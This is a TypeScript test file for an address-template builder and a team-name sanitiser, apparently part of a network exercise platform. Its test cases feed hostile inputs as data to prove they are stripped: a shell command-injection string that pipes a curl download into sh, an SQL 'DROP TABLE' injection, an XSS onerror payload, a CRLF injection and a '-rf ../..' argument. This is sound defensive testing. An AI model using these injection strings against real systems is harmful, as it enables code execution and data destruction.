import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { placeValues, plainTeamName } from './places.js';

describe('what templates about places stand for', () => {
  it('is the first address of a node, each by its network, and the addresses of networks', () => {
    const at = (network: string, address: string) => ({ network, address, prefix: 24 });
    const addresses = { web: [at('dmz', '10.0.0.2'), at('lan', '10.0.1.2')], alone: [] };
    expect(placeValues({ dmz: { cidr: '10.0.0.0/24' }, lan: { cidr: '10.0.1.0/24' } }, addresses)).toEqual({
      'networks.dmz.cidr': '10.0.0.0/24',
      'networks.lan.cidr': '10.0.1.0/24',
      'nodes.web.ip': '10.0.0.2',
      'nodes.web.ip.dmz': '10.0.0.2',
      'nodes.web.ip.lan': '10.0.1.2',
    });
  });
});

describe("a team's name as machines take it", () => {
  it.each([
    ['Đội Sông Hương 1', 'Đội Sông Hương 1'],
    ['a$(curl x.example|sh)`id`', 'a curl x.example sh id'],
    ["x'; DROP TABLE staff; --", 'x DROP TABLE staff'],
    ['<img src=x onerror=alert(1)>', 'img src x onerror alert 1'],
    ['a\nadmin=true\r\n', 'a admin true'],
    ['-rf ../..', 'rf'],
    ['{{ door_flag }}', 'door_flag'],
    ['!!!', 'id7'],
    [undefined, 'id7'],
  ])('of %j is %j', (name, plain) => {
    expect(plainTeamName(name, 'id7')).toBe(plain);
  });

  it('holds nothing but letters, digits, spaces, and - _ . within, whatever is put in', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (name) => {
        const plain = plainTeamName(name, 'id7');
        expect(plain).toMatch(/^[\p{L}\p{M}\p{Nd}_][\p{L}\p{M}\p{Nd}_. -]{0,79}$/u);
        expect(plain).not.toMatch(/ $/);
      }),
    );
  });
});
